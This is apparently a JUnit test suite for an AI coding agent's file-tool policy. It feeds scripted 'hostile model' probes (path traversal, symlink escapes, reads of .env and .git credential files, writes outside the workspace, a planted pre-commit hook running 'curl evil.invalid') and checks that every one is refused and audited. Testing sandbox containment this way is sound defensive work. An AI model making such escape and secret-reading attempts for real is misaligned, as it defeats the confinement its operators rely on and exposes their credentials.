package io.devagent.run;

import io.devagent.run.HostileRun.Probe;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static io.devagent.run.HostileRun.list;
import static io.devagent.run.HostileRun.read;
import static io.devagent.run.HostileRun.search;
import static io.devagent.run.HostileRun.write;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * A model that tries to leave the workspace, or reach the files the policy denies, through the file
 * tools. Every attempt must be refused, audited as {@code policy_denied}, and the run must go on.
 */
class HostileFileToolsTest extends HostileSuite {

    static final String OUTSIDE = "OUTSIDE-SECRET-5c1e";
    static final String INNER = "OUTSIDE-DIR-SECRET-9a0b";
    static final String ENV = "ENV-SECRET-77d2";
    static final String SUB_ENV = "SUB-ENV-SECRET-3f61";
    static final String GIT = "GIT-SECRET-e4a8";
    static final String LINKED_ENV = "LINKED-ENV-SECRET-0b5d";

    @BeforeEach
    void setUp(RunFixture fx) throws Exception {
        ground(fx, OUTSIDE, INNER);
        plantDeniedFiles(ENV, SUB_ENV, gitConfigWithToken(GIT));
        Files.createSymbolicLink(ws.resolve("dangling-out"), root.resolve("created-through-link.txt"));
        Files.createSymbolicLink(ws.resolve("alias-of-env"), Path.of(".env"));
        Files.createSymbolicLink(ws.resolve("alias-of-git"), Path.of(".git"));
        // A symlink named .env whose target has an innocent name.
        Files.createDirectories(ws.resolve("config"));
        Files.writeString(ws.resolve("config/prod.settings"), "STRIPE_KEY=" + LINKED_ENV + "\n");
        Files.createDirectories(ws.resolve("app"));
        Files.createSymbolicLink(ws.resolve("app/.env"), Path.of("../config/prod.settings"));
    }

    @Test
    void readingOutsideTheWorkspaceIsRefusedForEveryFileTool() throws Exception {
        List<Probe> probes = List.of(
                read("../secret.txt"),
                read(secret.toString()),
                read("link-to-secret"),
                read("link-to-outdir/inner.txt"),
                read("sub/../../secret.txt"),
                read("./../secret.txt"),
                read("~/.bashrc"),
                list(".."),
                list(root.toString()),
                list("/"),
                list("link-to-outdir"),
                list("sub/../.."),
                search("SECRET", ".."),
                search("SECRET", outdir.toString()),
                search("SECRET", "link-to-outdir"),
                search("SECRET", "link-to-secret"),
                search("SECRET", "../secret.txt"));

        HostileRun run = HostileRun.run(fx, "escape-read", probes);

        for (int i = 0; i < probes.size(); i++) {
            run.assertRefused(i);
        }
        run.assertNeverSeen(OUTSIDE, INNER);
    }

    @Test
    void searchingAndListingTheWholeWorkspaceDoesNotFollowLinksOut() throws Exception {
        List<Probe> probes = List.of(
                search("OUTSIDE", "."),
                list("."),
                read("inside.txt"));

        HostileRun run = HostileRun.run(fx, "walk-links", probes);

        // Not refused (the workspace is theirs to search), but nothing behind a link out shows up.
        assertThat(run.message(0)).startsWith("no matches for OUTSIDE");
        assertThat(run.message(1)).contains("link-to-secret@", "link-to-outdir@", "inside.txt").doesNotContain("inner.txt");
        assertThat(run.message(2)).contains("1\tinside content\n");
        assertThat(run.auditTypesOf("policy_denied")).isEmpty();
        run.assertNeverSeen(OUTSIDE, INNER);
    }

    @Test
    void writingOutsideTheWorkspaceIsRefusedAndLandsNowhere() throws Exception {
        List<Probe> probes = List.of(
                write("../pwned.txt", "pwned"),
                write(root.resolve("pwned-abs.txt").toString(), "pwned"),
                write("link-to-secret", "pwned"),
                write("link-to-outdir/pwned.txt", "pwned"),
                write("link-to-outdir/inner.txt", "pwned"),
                write("dangling-out", "pwned"),
                write("sub/../../pwned.txt", "pwned"),
                write("link-to-outdir/new-dir/pwned.txt", "pwned"));

        HostileRun run = HostileRun.run(fx, "escape-write", probes);

        for (int i = 0; i < probes.size(); i++) {
            run.assertRefused(i);
        }
        assertThat(root.resolve("pwned.txt")).doesNotExist();
        assertThat(root.resolve("pwned-abs.txt")).doesNotExist();
        assertThat(root.resolve("created-through-link.txt")).doesNotExist();
        assertThat(outdir.resolve("pwned.txt")).doesNotExist();
        assertThat(outdir.resolve("new-dir")).doesNotExist();
        assertThat(secret).hasContent(OUTSIDE);
        assertThat(outdir.resolve("inner.txt")).hasContent(INNER);
        assertThat(Files.isSymbolicLink(ws.resolve("link-to-secret"))).isTrue();
    }

    @Test
    void envAndGitAreRefusedByNameThroughLinksAndInSubdirectories() throws Exception {
        List<Probe> probes = List.of(
                read(".env"),
                read("sub/.env"),
                read("./.env"),
                read("sub//.env"),
                read("alias-of-env"),
                read("app/.env"),
                search("SECRET", ".env"),
                search("SECRET", "sub/.env"),
                write(".env", "API_TOKEN=replaced"),
                write("sub/.env", "replaced"),
                write("newdir/.env", "planted"),
                write(".git/config", "replaced"),
                write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil.invalid\n"),
                write("alias-of-git/hooks/post-checkout", "#!/bin/sh\n"));

        HostileRun run = HostileRun.run(fx, "env-git", probes);

        for (int i = 0; i < probes.size(); i++) {
            run.assertRefused(i);
        }
        assertThat(run.message(0)).contains("files.deny");
        // .git is readable (git history is the agent's to read) but read-only, through links too.
        assertThat(run.message(probes.size() - 1)).contains("files.readOnly");
        assertThat(run.message(probes.size() - 3)).contains("files.readOnly");
        run.assertNeverSeen(ENV, SUB_ENV, GIT, LINKED_ENV);
        assertThat(ws.resolve(".env")).hasContent("API_TOKEN=" + ENV);
        assertThat(ws.resolve("sub/.env")).hasContent("DB_PASSWORD=" + SUB_ENV);
        assertThat(ws.resolve("newdir/.env")).doesNotExist();
        assertThat(ws.resolve(".git/config")).content().contains(GIT);
        assertThat(ws.resolve(".git/hooks/pre-commit")).doesNotExist();
        assertThat(ws.resolve(".git/hooks/post-checkout")).doesNotExist();
    }

    @Test
    void envAndGitAreHiddenFromListingsAndSearchesOfTheWorkspace() throws Exception {
        List<Probe> probes = List.of(
                list("."),
                list("sub"),
                search("SECRET", "."),
                search("url =", "."),
                search("inside", "."));

        HostileRun run = HostileRun.run(fx, "env-git-hidden", probes);

        assertThat(run.message(0)).contains("inside.txt").doesNotContain(".env").contains(".git/").contains("hidden by the policy");
        assertThat(run.message(1)).doesNotContain(".env").contains("hidden by the policy");
        // app/.env is a link: not followed by the search; config/prod.settings is not denied, so its own name shows it.
        assertThat(run.message(2)).doesNotContain(ENV, SUB_ENV, GIT).doesNotContain(".env:");
        assertThat(run.message(3)).startsWith("no matches");
        assertThat(run.message(4)).contains("inside.txt:1:");
        run.assertNeverSeen(ENV, SUB_ENV, GIT);
    }
}
